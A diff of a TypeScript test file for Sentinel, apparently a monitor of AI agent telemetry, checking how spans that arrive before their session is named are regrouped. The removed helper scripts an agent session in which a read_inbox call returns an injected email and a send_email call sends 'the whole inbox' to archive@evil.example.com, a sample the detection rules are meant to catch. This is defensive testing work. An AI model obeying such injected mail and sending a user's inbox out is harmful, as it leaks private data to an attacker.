@@ -3,10 +3,8 @@
 // The tool calls reach Sentinel before anything names their session; they go where the root span puts them, and the
 // rules see the injection they carried and the send it led to as one session.
 import { randomUUID } from 'node:crypto';
-import { context, trace, type Attributes, type Span } from '@opentelemetry/api';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { INJECTED_EMAIL } from './support/scripted-agent.ts';
-import { exporterFor, testTracer } from './support/otel-session.ts';
+import { sendChildrenFirst } from './support/late-name.ts';
 import { startTestServer, waitFor, type TestServer } from './support/server.ts';
 import { tempDir } from './support/temp-dir.ts';
 
@@ -28,45 +26,11 @@ afterAll(async () => {
   await server?.stop();
 });
 
-const tool = (name: string, args: unknown, result: string): Attributes => ({
-  'gen_ai.operation.name': 'execute_tool',
-  'gen_ai.tool.name': name,
-  'gen_ai.tool.call.arguments': JSON.stringify(args),
-  'gen_ai.tool.call.result': result,
-});
-
-/**
- * Sends the tool spans (and a model span without the conversation id), flushes, then ends the root with `rootAttrs`;
- * without them, the root never ends (its children wait for it).
- */
-async function sendChildrenFirst(rootAttrs?: Attributes, to = server): Promise<string> {
-  const { tracer, provider } = testTracer(exporterFor('proto', to.httpUrl), 'late-name-app');
-  const root = tracer.startSpan('invoke_agent mailer', { attributes: { 'gen_ai.operation.name': 'invoke_agent', 'gen_ai.agent.name': 'mailer' } });
-  const under = trace.setSpan(context.active(), root);
-  const child = (name: string, attrs: Attributes): Span => tracer.startSpan(name, { attributes: attrs }, under);
-  // The SDK stamps starts in milliseconds: a few between the calls, as a model call between them would take.
-  const pause = () => new Promise((r) => setTimeout(r, 5));
-  child('chat gpt-4o', { 'gen_ai.operation.name': 'chat', 'gen_ai.request.model': 'gpt-4o' }).end();
-  await pause();
-  child('execute_tool read_inbox', tool('read_inbox', { n: 1 }, INJECTED_EMAIL)).end();
-  await pause();
-  child('execute_tool send_email', tool('send_email', { to: 'archive@evil.example.com', body: 'the whole inbox' }, 'sent')).end();
-  // Each span went in a request of its own, and all three are in before the root ends.
-  await provider.forceFlush();
-  const traceId = root.spanContext().traceId;
-  await waitFor(() => to.get<SpanView[]>(`/api/sessions/${traceId}/spans`).then((s) => s.length === 3), 10_000, 'the unnamed spans under their trace id');
-  if (!rootAttrs) return traceId;
-  root.setAttributes(rootAttrs);
-  root.end();
-  await provider.forceFlush();
-  await provider.shutdown();
-  return traceId;
-}
-
 describe('spans that reach Sentinel before their session is named', () => {
   it('moves them, stored and live, to the session their root span names; the rules see one session', async () => {
     const sessionId = `conv-${randomUUID()}`;
-    const traceId = await sendChildrenFirst({ 'gen_ai.conversation.id': sessionId });
+    const { traceId, endRoot } = await sendChildrenFirst(server);
+    await endRoot({ 'gen_ai.conversation.id': sessionId });
     const spans = await waitFor(() => server.get<SpanView[]>(`/api/sessions/${sessionId}/spans`).then((s) => (s.length === 4 ? s : undefined)), 10_000, 'the named session');
     expect(new Set(spans.map((s) => s.sessionId))).toEqual(new Set([sessionId]));
     // The injection read in the first requests and the send in the same ones, found across the move, under the name.
@@ -84,7 +48,8 @@ describe('spans that reach Sentinel before their session is named', () => {
   });
 
   it('leaves a trace whose root names no session as a session of its own, under the trace id', async () => {
-    const traceId = await sendChildrenFirst({});
+    const { traceId, endRoot } = await sendChildrenFirst(server);
+    await endRoot({});
     const spans = await waitFor(() => server.get<SpanView[]>(`/api/sessions/${traceId}/spans`).then((s) => (s.length === 4 ? s : undefined)), 10_000, 'the trace session');
     expect(new Set(spans.map((s) => s.sessionId))).toEqual(new Set([traceId]));
   });
@@ -94,7 +59,8 @@ describe('a server stopped while spans wait for their parent', () => {
   it('places them as they are when it stops, and stores what the rules find in them', async () => {
     const dataDir = tempDir();
     const first = await startTestServer({ dataDir });
-    const traceId = await sendChildrenFirst(undefined, first);
+    // The root never ends: its children wait for it.
+    const { traceId } = await sendChildrenFirst(first);
     // It stopped with a RangeError here (the last sweep's time was Number.MAX_SAFE_INTEGER), before the threads closed.
     await first.close();
     const second = await startTestServer({ dataDir });
